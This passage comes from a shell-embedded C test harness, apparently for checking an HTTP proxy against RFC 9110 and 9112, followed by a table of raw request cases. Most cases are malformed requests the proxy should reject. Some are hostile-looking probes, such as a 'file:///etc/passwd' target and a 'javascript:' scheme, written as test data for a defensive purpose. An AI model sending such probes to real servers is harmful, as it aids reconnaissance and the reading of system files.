        if ((whole = parse(&m, p, n, REQUEST, 0)) == -1) { o->bad = 1; fail("the origin got a malformed request: %s", m.why); return; }
        if (!m.head) return;
        if (o->cur < 0) {
            if (!memcmp(p, "GET /probe ", 11)) {
                static struct buf v; char *q;
                if (!whole) return;
                o->done += m.len; o->probed = 1; probe_conn = (int)(o - conns);
                if (head_field(&m, "Via", &v) && (q = strstr(v.p, "proxy ("))) snprintf(via, sizeof via, "%s", q);
                say(o, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nprobe"); continue;
            }
            if (nseen == SEEN) { fail("too many requests at the origin"); o->bad = 1; return; }
            seen[o->cur = nseen++] = (struct seen){ (int)(o - conns), 0, o->done, 0 };
            o->touched = 1; o->step = answer_line(o->cur, !memcmp(p, "HEAD ", 5));
        }
        if (whole) { seen[o->cur].whole = 1; seen[o->cur].len = m.len; }
        if (o->step >= 0) {
            const char *op = lines[o->step].op; int next = o->step + 1;
            if (op[1] == 'c' || op[1] == 'r') { drop(o, op[1] == 'r'); return; }
            if ((!op[1] || op[1] == '=') && !whole) return;
            if (op[1] == '+' && !o->due) o->due = now() + 4;
            if (op[1] == '+' && now() < o->due) return;
            o->due = 0; at = o->out.n; expand(&o->out, lines[o->step].text, strlen(lines[o->step].text));
            if (o->out.n - at > 12 && !memcmp(o->out.p + at, "HTTP/1.1 101", 12)) {
                o->echo = 1; o->done += m.len;
                if (n > m.len && strchr(lines[o->step].op, '+')) fail("octets reach the origin before its 101");
            }
            op = next > 2 && next < now_case->first + now_case->n ? lines[next].op : "";
            o->step = op[0] == '<' && op[1] && op[1] != 'h' ? next : -1;
            continue;
        }
        if (!whole) return;
        o->done += seen[o->cur].len; o->cur = -1; 
    }
}
static size_t origin_got(void)          /* octets, on all connections */
{
    size_t n = 0;
    for (int i = 0; i < nconns; i++) n += conns[i].in.n;
    return n;
}
static int origin_busy(void)            /* has something to send without being asked first */
{
    for (int i = 0; i < nconns; i++)
        if (conns[i].fd != -1 && (!conns[i].eof || conns[i].echo) && (conns[i].sent < conns[i].out.n || conns[i].due)) return 1;
    return 0;
}
static struct pollfd watch(int fd, int eof, int writing)
{
    return (struct pollfd){ .fd = eof ? -1 : fd, .events = (short)(POLLIN | (writing ? POLLOUT : 0)) };
}
static void turn(int64_t until)         /* one poll of everything */
{
    struct pollfd f[CONNS + 2]; int64_t wait = until - now(); int n = nconns;
    f[0] = watch(listener, 0, 0); f[1] = watch(client.fd, client.eof, client.sent < client.out.n);
    for (int i = 0; i < n; i++) {
        struct conn *o = &conns[i]; f[2 + i] = watch(o->fd, o->eof, o->sent < o->out.n);
        if (o->fd != -1 && o->due && o->due - now() < wait) wait = o->due - now();
    }
    if (split && (origin_busy() || client.sent < client.out.n))         /* let the proxy see each piece */
        select(0, NULL, NULL, NULL, &(struct timeval){ 0, 10 });
    if (poll(f, (nfds_t)n + 2, wait < 0 ? 0 : (int)wait) == -1 && errno != EINTR) die("poll");
    if (f[1].revents) take(client.fd, &client.in, &client.eof, &client.reset);
    if (f[1].revents & POLLOUT && !client.eof) give(client.fd, &client.out, &client.sent);
    for (int i = 0; i < n; i++) {
        int reset = 0;
        if (conns[i].fd != -1 && f[2 + i].revents) take(conns[i].fd, &conns[i].in, &conns[i].eof, &reset);
        if (reset) drop(&conns[i], 0);
        serve(&conns[i]);
    }
    for (int fd; f[0].revents && (fd = accept(listener, NULL, NULL)) != -1; ) {
        struct conn *o = NULL;
        for (int i = 0; i < nconns && !o; i++) if (conns[i].fd == -1 && !conns[i].touched) o = &conns[i];
        if (!o && nconns < CONNS) o = &conns[nconns++];
        if (!o) { close(fd); fail("too many connections at the origin"); break; }
        free(o->in.p); free(o->out.p); *o = (struct conn){ .fd = fd, .step = -1, .cur = -1 }; add(&o->in, "", 0);
        prepare(fd);
    }
}

/* ---- the proxy ---- */
static int out_fd = -1;
static void start(const char *group)
{
    char *argv[64], origin[64], *flags = strdup(group), url[256]; int fd[2], n = 0; size_t got = 0; ssize_t k; struct buf b = { 0 };
    snprintf(origin, sizeof origin, "http://%s", lets[0].text);
    argv[n++] = (char *)proxy; argv[n++] = "-q"; argv[n++] = "-l"; argv[n++] = "0";
    if (is(mode, "reverse")) { argv[n++] = "-r"; argv[n++] = origin; }
    strtok(flags, " ");
    for (char *t; n < 63 && (t = strtok(NULL, " ")); b = (struct buf){ 0 }) { expand(&b, t, strlen(t)); argv[n++] = b.p; }
    argv[n] = NULL;
    if (pipe(fd) == -1 || (pid = fork()) == -1) die("fork");
    if (!pid) { dup2(fd[1], 1); close(fd[0]); close(fd[1]); execv(proxy, argv); die(proxy); }
    close(fd[1]); out_fd = fd[0]; fcntl(out_fd, F_SETFD, FD_CLOEXEC); free(flags);
    for (struct pollfd p = { out_fd, POLLIN, 0 }; !memchr(url, '\n', got) && got < sizeof url - 1; got += (size_t)k)
        if (poll(&p, 1, 10000) != 1 || (k = read(out_fd, url + got, sizeof url - 1 - got)) <= 0) {
            printf("Bail out! %s does not start: %s\n", proxy, group); exit(1);
        }
    url[got] = 0; url[strcspn(url, "\n")] = 0; proxy_port = strrchr(url, ':') ? atoi(strrchr(url, ':') + 1) : 0;
    snprintf(origin, sizeof origin, "127.0.0.1:%d", proxy_port); let("SELF", origin);
}
static int ended(int *status)
{
    if (pid && waitpid(pid, status, WNOHANG) != pid) return 0;
    if (pid) { close(out_fd); pid = 0; }
    return 1;
}
static void stop(void)                  /* by TERM it ends in time and with status 0 */
{
    int st = 0, killed = 0; int64_t until = now() + 2 * bound;
    if (!pid) return;
    for (int i = 0; i < nconns; i++) drop(&conns[i], 0);
    nconns = 0; kill(pid, SIGTERM);
    while (!ended(&st)) {
        poll(&(struct pollfd){ out_fd, 0, 0 }, 1, 10);
        if (now() > until && !killed++) kill(pid, SIGKILL);
    }
    printf("%sok %d - %s: the proxy ends by TERM with status 0\n", st || killed ? "not " : "", ++total, mode);
    if (st || killed) { failures++; printf("#   wait status %d%s\n", st, killed ? ", killed" : ""); }
}

/* ---- the client's side of a case ---- */
enum { CUT, WHOLE, MALFORMED, SILENCE, NOTHING };
static int receive(struct msg *m, int kind)
{
    for (int64_t until = now() + bound;;) {
        size_t n = client.in.n - client.used;
        int r = parse(m, client.in.p + client.used, n, kind, client.eof && !client.reset);
        if (r == -1) { fail("malformed answer: %s", m->why); return MALFORMED; }
        if (r == 1) { client.used += m->len; return WHOLE; }
        if (client.eof) return n ? CUT : NOTHING;
        if (now() >= until) return SILENCE;
        turn(until);
    }
}
static void settle(void)                /* what the client and the origin have to send is sent */
{
    for (int64_t until = now() + bound; (client.sent < client.out.n || origin_busy()) && now() < until && !client.eof; ) turn(until);
}
static int listed(const char *list, int status)          /* 0: none */
{
    char copy[64], one[16], *p, *end = NULL;
    snprintf(copy, sizeof copy, "%.*s", (int)strcspn(list, " ~"), list);
    if (status) snprintf(one, sizeof one, "%.3d", status); else strcpy(one, "none");
    for (p = strtok_r(copy, "|", &end); p; p = strtok_r(NULL, "|", &end)) if (!strcmp(p, one)) return 1;
    return 0;
}
static void judge_request(const struct msg *m)          /* what holds for every request that is forwarded */
{
    static struct buf v; static const char *const never[] = { "Keep-Alive", "Proxy-Connection", "HTTP2-Settings" }; char *q, *end;
    for (size_t i = 0; i < sizeof never / sizeof *never; i++) if (head_field(m, never[i], &v)) fail("%s was forwarded", never[i]);
    if (head_field(m, "TE", &v) && strcasecmp(v.p, "trailers")) fail("TE: %s was forwarded", v.p);
    if (head_field(m, "Host", &v) != 1) fail("the forwarded request has not one Host");
    if (head_field(m, "Connection", &v))
        for (q = strtok_r(v.p, ", ", &end); q; q = strtok_r(NULL, ", ", &end))
            if (strcasecmp(q, "close") && strcasecmp(q, "keep-alive") && strcasecmp(q, "upgrade") && strcasecmp(q, "te"))
                fail("Connection: %s was forwarded", q);
    if (plain) return;
    if (!head_field(m, "Via", &v) || v.n < 16 || !(q = strstr(v.p + strlen(v.p) - 16, "proxy (")))
        fail("no Via of our own in the forwarded request");
    if (strcmp(mode, "reverse")) return;
    if (head_field(m, "X-Forwarded-For", &v) != 1 || strcmp(v.p, "127.0.0.1")) fail("X-Forwarded-For is not one 127.0.0.1");
    if (head_field(m, "X-Forwarded-Proto", &v) != 1 || strcmp(v.p, "http")) fail("X-Forwarded-Proto is not one http");
    if (head_field(m, "X-Forwarded-Host", &v) > 1) fail("several X-Forwarded-Host");
    if (head_field(m, "Forwarded", &v) != 1) fail("not one Forwarded");
}
static void judge_answer(const struct msg *m)
{
    static struct buf v;
    if (head_field(m, "Keep-Alive", &v) || head_field(m, "Proxy-Connection", &v)) fail("a hop-by-hop field in the answer");
    if (!plain && m->status >= 200 && head_field(m, "Date", &v) != 1) fail("the answer has not one Date");
}
static void judge_line(const struct line *l, struct msg *m)     /* has, lacks, content, trailer */
{
    static struct buf want, v; char *name, *value, *end; size_t n;
    want.n = 0; expand(&want, l->text, strlen(l->text)); if (!want.p) add(&want, "", 0);
    if (is(l->op, "without")) { if (find(m->p, m->len, want.p, want.n)) fail("%s is in it", l->text); }
    else if (is(l->op, "content")) {
        if (is(l->text, "\"\"")) want.n = 0;
        if (!equal(&m->content, want.p, want.n)) fail("the content (%zu octets) is not %.60s", m->content.n, l->text);
    } else if (is(l->op, "lacks")) {
        for (name = strtok_r(want.p, " ", &end); name; name = strtok_r(NULL, " ", &end))
            if (head_field(m, name, &v) || (m->trailer && field(m, m->trailer, m->len - 2, name, &v))) fail("has %s", name);
    } else {
        name = want.p; value = strchr(name, ':'); if (!value) { fail("the table: %s", l->text); return; }
        *value++ = 0; value += *value == ' '; n = want.n - (size_t)(value - name);
        if (is(l->op, "has") ? !head_field(m, name, &v) : !m->trailer || !field(m, m->trailer, m->len - 2, name, &v))
            fail("lacks %s", l->text);
        else if (n && value[n - 1] == '*' ? v.n < n - 1 || memcmp(v.p, value, n - 1) : !equal(&v, value, n))
            fail("%s is \"%s\", not \"%s\"", name, v.p, value);
    }
}
static void expect_answer(const struct line *l, struct msg *m, int *tunnel)
{
    static struct buf want; const char *text = strchr(l->text, ' ');
    int kind = is(l->op, "=head") ? BODILESS : RESPONSE, cut = is(l->op, "=cut"), r;
    want.n = 0; add(&want, "", 0);
    if (is(l->op, "=raw")) {
        int64_t until = now() + bound;
        expand(&want, l->text, strlen(l->text));
        while (client.in.n - client.used < want.n && !client.eof && now() < until) turn(until);
        if (client.in.n - client.used < want.n || memcmp(client.in.p + client.used, want.p, want.n))
            fail("the tunnel does not bring %.60s", l->text);
        else client.used += want.n;
        return;
    }
    if (text && strcmp(text + 1, "\"\"")) expand(&want, text + 1, strlen(text + 1));
    if (is(l->op, "=connect")) { kind = BODILESS; *tunnel = 1; }
    while ((r = receive(m, kind)) == WHOLE && m->status < 200 && m->status != 101 && is(l->op, "=1xx")) judge_answer(m);
    if (kind == BODILESS && r == WHOLE && *tunnel && m->status >= 300) { client.used -= m->len; r = receive(m, RESPONSE); }
    if (r == MALFORMED) return;
    if (r == SILENCE) { fail("silence: %s within %d ms", client.in.n > client.used ? "no whole answer" : "no answer", bound); return; }
    if (r == NOTHING) {
        if (!listed(l->text, 0)) fail("closed without an answer%s, not %s", client.reset ? " (reset)" : "", l->text);
        return;
    }
    if (m->head && !*tunnel) judge_answer(m);
    if (cut) {
        if (r == WHOLE && m->status == 502) return;
        if (r == WHOLE) { fail("the cut answer looks whole (%d)", m->status); return; }
        if (m->head && !listed(l->text, m->status)) fail("status %d, not %s", m->status, l->text);
        if (m->content.n > want.n || memcmp(m->content.p, want.p, m->content.n))
            fail("the content is not a part of %.60s", text ? text + 1 : "");
        client.used = client.in.n; return;
    }
    if (r == CUT) { fail("the answer is cut off"); return; }
    if (!listed(l->text, m->status)) fail("status %d, not %.*s", m->status, (int)strcspn(l->text, " "), l->text);
    else if (text && !equal(&m->content, want.p, want.n))
        fail("the content (%zu octets) is not %.60s", m->content.n, text + 1);
}
static void expect_request(int k, const char *text, struct msg *m)
{
    static struct buf want; const char *p;
    for (int64_t until = now() + bound; (nseen <= k || !seen[k].whole) && now() < until && !why[0]; ) turn(until);
    if (nseen <= k || !seen[k].whole) { fail("the origin did not get request %d whole", k + 1); return; }
    p = conns[seen[k].conn].in.p + seen[k].at;
    parse(m, p, seen[k].len, REQUEST, 0); want.n = 0; expand(&want, text, strlen(text));
    if (strcmp(text, "*") && (m->start != want.n + 2 || memcmp(p, want.p, want.n)))
        fail("the origin got %.*s, not %s", (int)m->start - 2, p, text);
}
static void finish(const char *end, const char *upstream, int tunnel, long least, long most)
{
    static struct msg m; static struct buf probe; int64_t until; long whole = 0; int r;
    const char *target = "GET $T/probe HTTP/1.1\r\nHost: $HOST\r\n\r\n";
    if (is(end, "closed")) {
        for (until = now() + bound; !client.eof && now() < until; ) turn(until);
        if (client.in.n > client.used) fail("octets after the last answer");
        if (!client.eof) fail("the connection stays open");
    } else if (strcmp(end, "skip")) {
        settle();
        if (client.in.n > client.used) fail("octets after the last answer");
        probe.n = 0; expand(&probe, target, strlen(target)); add(&client.out, probe.p, probe.n);
        r = receive(&m, RESPONSE);
        if (r == NOTHING && strcmp(end, "any")) fail("the connection was closed");
        if (r == CUT || r == SILENCE) fail("the further request gets %s", r == CUT ? "a cut answer" : "silence");
        if (r == WHOLE && (m.status != 200 || !equal(&m.content, "probe", 5))) fail("the further request gets another answer");
    }
    if (client.fd != -1) close(client.fd);
    client.fd = -1; client.eof = 1; client.sent = client.out.n;
    for (int i = 0; i < nconns; i++) {
        struct conn *o = &conns[i]; int closed = o->touched && is(upstream, "closed");
        if (closed && o->probed) fail("the connection to the origin was used again");
        for (until = now() + bound; o->fd != -1 && !o->eof && !o->echo && (closed || o->in.n > o->done); turn(until))
            if (now() >= until) { fail(closed ? "the connection to the origin stays open" : "an unfinished request stays open at the origin"); break; }
    }
    if (is(upstream, "kept") && (!nseen || seen[nseen - 1].conn != probe_conn))
        fail("the connection to the origin was not used again");
    turn(0);
    for (int i = 0; i < nseen; i++) if (seen[i].whole) {
        whole++; parse(&m, conns[seen[i].conn].in.p + seen[i].at, seen[i].len, REQUEST, 0); if (!tunnel) judge_request(&m);
    }
    if (whole < least || whole > most) fail("the origin got %ld requests, not %ld to %ld", whole, least, most);
}
static void run(struct tcase *c)
{
    static struct msg m; struct line *l = lines + c->first, *z = l + c->n; char *e; const char *end = "open", *upstream = "";
    long least = 0, most, count = -1; int tunnel = 0, k = 0, st = 0;
    why[0] = 0; nseen = 0; probe_conn = -1; now_case = c;
    for (struct line *i = l; i < z; i++) {
        if (is(i->op, "fresh")) for (int j = 0; j < nconns; j++) drop(&conns[j], 0);
        if (is(i->op, "end")) end = i->text;
        if (is(i->op, "upstream")) upstream = i->text;
        if (is(i->op, "@count")) { count = strtol(i->text, &e, 10); least = *e == '-' ? strtol(e + 1, NULL, 10) : count; }
        if (i->op[0] == '=' && !is(i->op, "=raw") && !is(i->op, "=connect") && !is(i->text, "none"))
            k += i->text[0] != '1' || !strncmp(i->text, "101", 3);              /* final answers */
    }
    most = count < 0 ? k : least; least = count < 0 ? k : count; k = 0;
    client.eof = client.reset = 0; client.used = client.sent = client.in.n = client.out.n = 0;
    add(&client.in, "", 0); add(&client.out, "", 0);
    size_t got = origin_got();
    if ((client.fd = local(proxy_port, 0, NULL)) == -1) { client.eof = 1; fail("cannot connect"); }
    for (; l < z && !why[0]; l++) {
        if (is(l->op, ">")) { if (client.out.n) { settle(); turn(now() + 4); } expand(&client.out, l->text, strlen(l->text)); }
        else if (is(l->op, "shut") || is(l->op, "gone")) {
            settle(); turn(now() + 4);
            for (int64_t until = now() + bound; l->op[0] == 'g' && origin_got() == got && now() < until; ) turn(until);
            if (l->op[0] == 's') shutdown(client.fd, SHUT_WR); else { close(client.fd); client.fd = -1; client.eof = 1; end = "skip"; }
        } else if (l->op[0] == '=') expect_answer(l, &m, &tunnel);
        else if (is(l->op, "@")) expect_request(k++, l->text, &m);
        else if (l->op[0] == 'h' || l->op[0] == 'l' || l->op[0] == 'c' || l->op[0] == 't' || l->op[0] == 'w') judge_line(l, &m);
        else if (l->op[0] != '<' && !strchr("efou@", l->op[0])) fail("the table: %s %s", l->op, l->text);
    }
    finish(why[0] ? "skip" : end, upstream, tunnel, least, most);
    if (why[0] && client.eof) poll(&(struct pollfd){ out_fd, POLLIN, 0 }, 1, 50);      /* a dying proxy is seen dead */
    if (ended(&st)) { why[0] = 0; fail("the proxy died, wait status %d", st); }
    printf("%sok %d - %s %s: %s\n", why[0] ? "not " : "", ++total, mode, split ? "split" : "whole", c->name);
    if (why[0]) { failures++; printf("#   %s\n", why); }
    if (why[0] || verbose) {
        show("client sent", client.out.p, client.out.n);
        show("client got ", client.in.p, client.in.n); if (client.reset) printf("#   reset\n");
        for (int i = 0; i < nconns; i++)
            if (conns[i].touched || conns[i].in.n > conns[i].done) show("origin got ", conns[i].in.p, conns[i].in.n);
    }
    for (int i = 0; i < nconns; i++) {                                  /* unclean connections do not reach the next case */
        struct conn *o = &conns[i];
        if (o->eof || o->bad || o->echo || o->cur >= 0 || o->in.n > o->done || o->sent < o->out.n) drop(o, 0);
        o->touched = o->probed = 0; o->in.n = o->done = o->out.n = o->sent = 0;
    }
}
int main(int argc, char **argv)
{
    int c, port, dead, once; const char *word = "", *pass = ""; char origin[32], no[32], *group = NULL; int64_t began = now();
    while ((c = getopt(argc, argv, "nvt:p:")) != -1) {
        switch (c) {
        case 'n': plain = 1; break;
        case 'v': verbose = 1; break;
        case 't': bound = atoi(optarg); break;
        case 'p': pass = optarg; break;
        default: return 2;
        }
    }
    if (argc - optind < 3) { fputs("usage: rawcase [-nv] [-t MS] [-p whole|split] PROXY reverse|forward TABLE [WORD]\n", stderr); return 2; }
    proxy = argv[optind]; mode = argv[optind + 1]; if (argv[optind + 3]) word = argv[optind + 3];
    signal(SIGPIPE, SIG_IGN); setvbuf(stdout, NULL, _IOLBF, 0); client.fd = -1; client.eof = 1;
    listener = local(0, 1, &port); local(0, 0, &dead);
    snprintf(origin, sizeof origin, "127.0.0.1:%d", port); snprintf(no, sizeof no, "127.0.0.1:%d", dead);
    let("ORIGIN", origin); let("DEAD", no); let("VIA", "proxy (00000000)");
    let("HOST", is(mode, "reverse") ? "a.example" : origin); let("T", is(mode, "reverse") ? "" : "http://$HOST");
    load(argv[optind + 2]);
    for (int i = 0; i < ncases; i++) {
        struct tcase *t = &cases[i], first = { "the proxy works", t->group, 2, 0 };
        if (!t->group || (strncmp(t->group, mode, strlen(mode)) && strncmp(t->group, "both", 4)) || !strstr(t->name, word)) continue;
        for (split = is(pass, "split"); split <= (strcmp(pass, "whole") != 0); split++) {
            if (t->group != group || !pid) {
                stop(); group = t->group; via[0] = 0; start(group); if (!strstr(group, "-u ")) run(&first);
                let("VIA", via);
            }
            for (c = t->first, once = 0; c < t->first + t->n; c++) once |= is(lines[c].op, "once");
            if (!split || !once) run(t);
        }
    }
    stop();
    printf("1..%d\n# %d passed, %d failed in %lld ms\n", total, total - failures, failures, (long long)(now() - began));
    return failures || !total;
}
RAWCASE_C
}

raw_cases() { cat <<'RAW_CASES'
# Octets against the checklist of RFC 9110 and 9112; the syntax is at the top of rawcase.c.
:let H Host: $HOST\r\n
:let G GET $T/ HTTP/1.1\r\n$H
:let P POST $T/ HTTP/1.1\r\n$H
:let TE Transfer-Encoding: chunked\r\n
:let C POST $T/ HTTP/1.1\r\n$HTransfer-Encoding: chunked\r\n\r\n
:let OLD GET $T/ HTTP/1.0\r\n$H
:let CL Content-Length:
:let OK HTTP/1.1 200 OK\r\n
:let OK2 HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok
:let WS Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n
:let WA HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n
:let EVIL HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil

:group both
# ---- the request line (9112, 3; 2.3) ----
ok a plain request :: $G\r\n
@ GET / HTTP/1.1
ok one empty line before the request :: \r\n$G\r\n
ok two empty lines before the request :: \r\n\r\n$G\r\n
400 three empty lines before the request :: \r\n\r\n\r\n$G\r\n
400 a bare LF before the request :: \n$G\r\n
400 a space before the method ::  GET $T/ HTTP/1.1\r\n$H\r\n
400 two spaces after the method :: GET  $T/ HTTP/1.1\r\n$H\r\n
400 two spaces before the version :: GET $T/  HTTP/1.1\r\n$H\r\n
400 a space after the version :: GET $T/ HTTP/1.1 \r\n$H\r\n
400 a tab after the method :: GET\t$T/ HTTP/1.1\r\n$H\r\n
400 a tab before the version :: GET $T/\tHTTP/1.1\r\n$H\r\n
400 a vertical tab after the method :: GET\x0b$T/ HTTP/1.1\r\n$H\r\n
400 a space within the target :: GET $T/a b HTTP/1.1\r\n$H\r\n
400 four words on the request line :: GET $T/ HTTP/1.1 HTTP/1.1\r\n$H\r\n
400 no version (HTTP/0.9) :: GET $T/\r\n\r\n
400 no version with fields after it :: GET $T/\r\n$H\r\n
400 no target :: GET HTTP/1.1\r\n$H\r\n
400 an empty target :: GET  HTTP/1.1\r\n$H\r\n
400 only a method :: GET\r\n\r\n
400 a lower-case version :: GET $T/ http/1.1\r\n$H\r\n
400 a mixed-case version :: GET $T/ Http/1.1\r\n$H\r\n
400 a version without minor :: GET $T/ HTTP/1\r\n$H\r\n
400 a version without minor digit :: GET $T/ HTTP/1.\r\n$H\r\n
400 a version with two minor digits :: GET $T/ HTTP/1.10\r\n$H\r\n
400 a version with two major digits :: GET $T/ HTTP/01.1\r\n$H\r\n
400 a version with a comma :: GET $T/ HTTP/1,1\r\n$H\r\n
400 a version with a sign :: GET $T/ HTTP/+1.1\r\n$H\r\n
400 a version with a letter :: GET $T/ HTTP/1.x\r\n$H\r\n
400 another protocol's name :: GET $T/ ICY/1.1\r\n$H\r\n
400 a version after a slash too many :: GET $T/ HTTP//1.1\r\n$H\r\n
505 version 2.0 :: GET $T/ HTTP/2.0\r\n$H\r\n
505 version 3.0 :: GET $T/ HTTP/3.0\r\n$H\r\n
400|505 version 0.9 spelt out :: GET $T/ HTTP/0.9\r\n$H\r\n
505 version 9.9 :: GET $T/ HTTP/9.9\r\n$H\r\n
400|505 the preface of HTTP/2 :: PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n
case version 1.2 is treated as 1.1
> GET $T/ HTTP/1.2\r\n$H\r\n
= 200 ok
@ GET / HTTP/1.1
case version 1.9 is treated as 1.1
> GET $T/ HTTP/1.9\r\n$H\r\n
= 200 ok
@ GET / HTTP/1.1
case version 1.2 demands a Host
> GET $T/ HTTP/1.2\r\n\r\n
= 400
@count 0
end closed
400 a bare LF after the request line :: GET $T/ HTTP/1.1\n$H\r\n
400 a bare CR after the request line :: GET $T/ HTTP/1.1\r$H\r\n
400 a bare CR in the request line :: GET $T/\r HTTP/1.1\r\n$H\r\n
400 two CR before the LF of the request line :: GET $T/ HTTP/1.1\r\r\n$H\r\n
400 NUL in the request line :: GET $T/\0 HTTP/1.1\r\n$H\r\n
400 NUL in the method :: GE\0T $T/ HTTP/1.1\r\n$H\r\n
400 NUL in the version :: GET $T/ HTTP/1.1\0\r\n$H\r\n
case an unknown method passes
> FOO $T/x HTTP/1.1\r\n$H\r\n
= 200 ok
@ FOO /x HTTP/1.1
case a lower-case method keeps its case
> get $T/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ get / HTTP/1.1
case a method of every token character passes
> A!#$%&'*+-.^_`|~0z $T/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ A!#$%&'*+-.^_`|~0z / HTTP/1.1
case a method with a hyphen passes
> M-SEARCH $T/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ M-SEARCH / HTTP/1.1
400 a method with a parenthesis :: GE(T $T/ HTTP/1.1\r\n$H\r\n
400 a method with a slash :: GE/T $T/ HTTP/1.1\r\n$H\r\n
400 a method with a colon :: GET: $T/ HTTP/1.1\r\n$H\r\n
400 a quoted method :: "GET" $T/ HTTP/1.1\r\n$H\r\n
400 a method with an 8-bit octet :: G\xc9T $T/ HTTP/1.1\r\n$H\r\n
400 a method with a brace :: {GET $T/ HTTP/1.1\r\n$H\r\n
400 a TLS hello on a plain port :: \x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\r\n\r\n
400|501|414|431 a method of 10000 octets :: \{10000:A} $T/ HTTP/1.1\r\n$H\r\n

# ---- the target (9112, 3.2; 3.3) ----
case query and escapes pass as received
> GET $T/a%20b%2Fc%3f?x=%zz&y=a%2fb HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a%20b%2Fc%3f?x=%zz&y=a%2fb HTTP/1.1
case the case of escapes and letters stays
> GET $T/A%c3%A9/%7eb?Q=%7E HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /A%c3%A9/%7eb?Q=%7E HTTP/1.1
case several slashes stay
> GET $T/a//b/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a//b/ HTTP/1.1
case names that begin or end with dots are no dot segments
> GET $T/.a/..b/c../.../d HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /.a/..b/c../.../d HTTP/1.1
case a query holds question marks, slashes and dots
> GET $T/?a?b=../..//&c HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /?a?b=../..//&c HTTP/1.1
case an empty query stays
> GET $T/? HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /? HTTP/1.1
case visible characters pass in a query
> GET $T/?q=[a]|{b}\\"<^`> HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /?q=[a]|{b}\\"<^`> HTTP/1.1
case sub-delims pass in a path
> GET $T/a;b=1,2!$&'()*+:@~_ HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a;b=1,2!$&'()*+:@~_ HTTP/1.1
400 a control in the target :: GET $T/\x01 HTTP/1.1\r\n$H\r\n
400 ESC in the target :: GET $T/\x1b[2J HTTP/1.1\r\n$H\r\n
400 DEL in the target :: GET $T/\x7f HTTP/1.1\r\n$H\r\n
400 a tab in the target :: GET $T/a\tb HTTP/1.1\r\n$H\r\n
400 an 8-bit octet in the path :: GET $T/\xc3\xa9 HTTP/1.1\r\n$H\r\n
400 an 8-bit octet in the query :: GET $T/?\xff HTTP/1.1\r\n$H\r\n
400 a fragment :: GET $T/a#b HTTP/1.1\r\n$H\r\n
400 a fragment after a query :: GET $T/a?b#c HTTP/1.1\r\n$H\r\n
400 an asterisk with GET :: GET * HTTP/1.1\r\n$H\r\n
400 an asterisk with POST :: POST * HTTP/1.1\r\n$H$CL 0\r\n\r\n
400 an asterisk with more behind it :: OPTIONS *a HTTP/1.1\r\n$H\r\n
400 an asterisk with a query :: OPTIONS *?a HTTP/1.1\r\n$H\r\n
400 the authority-form with GET :: GET a.example:80 HTTP/1.1\r\n$H\r\n
400 a path without a slash :: GET index.html HTTP/1.1\r\n$H\r\n
400 a query alone :: GET ?a HTTP/1.1\r\n$H\r\n
400 a backslash for the first slash :: GET \\a HTTP/1.1\r\n$H\r\n
400 a scheme with one slash :: GET http:/a.example/ HTTP/1.1\r\n$H\r\n
400 a scheme without slashes :: GET http:a.example HTTP/1.1\r\n$H\r\n
400 an empty authority in the absolute-form :: GET http:///a HTTP/1.1\r\n$H\r\n
400 an authority of a port alone :: GET http://:80/ HTTP/1.1\r\n$H\r\n
400 userinfo in the absolute-form :: GET http://user@$HOST/ HTTP/1.1\r\n$H\r\n
400 userinfo with a password in the absolute-form :: GET http://u:p@$HOST/ HTTP/1.1\r\n$H\r\n
400 empty userinfo in the absolute-form :: GET http://@$HOST/ HTTP/1.1\r\n$H\r\n
400 the scheme ftp :: GET ftp://$HOST/ HTTP/1.1\r\n$H\r\n
400 the scheme file :: GET file:///etc/passwd HTTP/1.1\r\n$H\r\n
400 the scheme javascript :: GET javascript:1 HTTP/1.1\r\n$H\r\n
400 a letter in the port of the absolute-form :: GET http://a.example:8a/ HTTP/1.1\r\n$H\r\n
400 a port beyond 65535 in the absolute-form :: GET http://a.example:65536/ HTTP/1.1\r\n$H\r\n
400 a huge port in the absolute-form :: GET http://a.example:4294967376/ HTTP/1.1\r\n$H\r\n
400 a negative port in the absolute-form :: GET http://a.example:-80/ HTTP/1.1\r\n$H\r\n
400 two ports in the absolute-form :: GET http://a.example:80:80/ HTTP/1.1\r\n$H\r\n
400 an unclosed address in the absolute-form :: GET http://[::1/ HTTP/1.1\r\n$H\r\n
400 an 8-bit octet in the authority of the absolute-form :: GET http://a\xe9.example/ HTTP/1.1\r\n$H\r\n
400 a backslash in the authority of the absolute-form :: GET http://a.example\\b/ HTTP/1.1\r\n$H\r\n
case the absolute-form is rewritten to the origin-form
> GET http://$HOST/a?b HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a?b HTTP/1.1
has Host: $HOST
case the scheme in any case
> GET HTTP://$HOST/a HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /a HTTP/1.1
has Host: $HOST
case the empty path becomes a slash
> GET http://$HOST HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET / HTTP/1.1
case the empty path before a query becomes a slash
> GET http://$HOST?q=1 HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /?q=1 HTTP/1.1
case the empty path of OPTIONS becomes an asterisk
> OPTIONS http://$HOST HTTP/1.1\r\n$H\r\n
= 200 ok
@ OPTIONS * HTTP/1.1
has Host: $HOST
case OPTIONS with a path keeps it
> OPTIONS http://$HOST/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ OPTIONS / HTTP/1.1
case the target's authority replaces another Host
> GET http://$HOST/ HTTP/1.1\r\nHost: other.example\r\n\r\n
